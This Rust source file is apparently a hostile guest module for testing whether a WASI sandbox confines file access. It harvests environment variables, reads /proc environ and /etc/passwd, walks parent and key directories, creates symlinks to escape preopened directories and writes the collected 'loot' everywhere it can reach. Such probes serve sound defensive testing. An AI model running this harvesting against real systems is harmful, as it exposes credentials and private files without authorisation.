//! What a guest can try without any interface beyond those of a store.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};

/// Entries of directories and files looked at, in all: enough for every tree of the script, and an end.
const MAX_VISITS: usize = 10_000;
/// A path longer than this runs in circles through symbolic links.
const MAX_PATH: usize = 200;
/// Bytes of a file that are taken.
const MAX_FILE: usize = 64 * 1024;
/// Name of the file that takes the loot away; those of symbolic links made on the way begin so.
const LOOT: &str = "loot";

/// Where an attacker looks whatever it was given.
const ELSEWHERE: [&str; 14] = [
    "/",
    ".",
    "..",
    "../..",
    "/keys",
    "keys",
    "../keys",
    "/pins/pin",
    "pins/pin",
    "../pins/pin",
    "/heads",
    "/proc/self/environ",
    "/proc/1/environ",
    "/etc/passwd",
];

/// Everything that could be read, one finding a line; as it was written to stderr and to every directory.
pub fn take(paths: &[String]) -> String {
    let mut loot = String::new();
    for (name, value) in std::env::vars_os() {
        let _ = writeln!(loot, "environment {}={}", name.to_string_lossy(), value.to_string_lossy());
    }
    for argument in std::env::args_os() {
        let _ = writeln!(loot, "argument {}", argument.to_string_lossy());
    }
    let mut starts: Vec<PathBuf> = ELSEWHERE.map(PathBuf::from).into();
    starts.extend(paths.iter().map(PathBuf::from));
    for directory in given(paths, &mut loot) {
        starts.extend(
            ["", "..", "../..", "../keys", "../../keys", "./.././keys", "../pins"].map(|rest| directory.join(rest)),
        );
    }
    let directories = walk(starts, &mut loot);
    for directory in directories {
        let _ = fs::write(directory.join(LOOT), &loot);
    }
    eprintln!("hostile store: {loot}");
    loot
}

/// Reads every file below these paths, once by each name; returns the directories.
fn walk(starts: Vec<PathBuf>, loot: &mut String) -> BTreeSet<PathBuf> {
    let mut todo = starts;
    let mut directories = BTreeSet::new();
    for _ in 0..MAX_VISITS {
        let Some(path) = todo.pop() else { break };
        let ours = path.file_name().is_some_and(|name| name.to_string_lossy().starts_with(LOOT));
        if ours || path.as_os_str().len() > MAX_PATH {
            continue;
        }
        if let Ok(entries) = fs::read_dir(&path) {
            if directories.insert(path) {
                todo.extend(entries.flatten().map(|entry| entry.path()));
            }
        } else if let Ok(bytes) = fs::read(&path) {
            record(&path, &bytes, loot);
        }
    }
    directories
}

fn record(path: &Path, bytes: &[u8], loot: &mut String) {
    let text = String::from_utf8_lossy(&bytes[..bytes.len().min(MAX_FILE)]);
    let _ = writeln!(loot, "file {}: {text}", path.display());
}

/// The names of the directories this guest was given, after what their descriptors alone may reach: paths upwards, and
/// symbolic links made here.
#[cfg(target_os = "wasi")]
fn given(paths: &[String], loot: &mut String) -> Vec<PathBuf> {
    use wasip2::filesystem::preopens::get_directories;
    use wasip2::filesystem::types::{DescriptorFlags, OpenFlags, PathFlags};

    let mut names = Vec::new();
    for (directory, name) in get_directories() {
        let _ = writeln!(loot, "directory {name}");
        let targets = ELSEWHERE.iter().copied().chain(["../..//keys"]).chain(paths.iter().map(String::as_str));
        for (number, target) in targets.enumerate() {
            let link = format!("{LOOT}-link-{number}");
            let _ = directory.symlink_at(target, &link);
            for path in [target, &link, &format!("{link}/keys/audit.pem"), &format!("{link}/audit.pem")] {
                let flags = DescriptorFlags::READ;
                let opened = directory.open_at(PathFlags::SYMLINK_FOLLOW, path, OpenFlags::empty(), flags);
                if let Ok((bytes, _)) = opened.and_then(|file| file.read(MAX_FILE as u64, 0)) {
                    record(Path::new(path), &bytes, loot);
                }
            }
        }
        names.push(PathBuf::from(name));
    }
    names
}

/// Natively there are no such directories.
#[cfg(not(target_os = "wasi"))]
fn given(_: &[String], _: &mut String) -> Vec<PathBuf> {
    Vec::new()
}
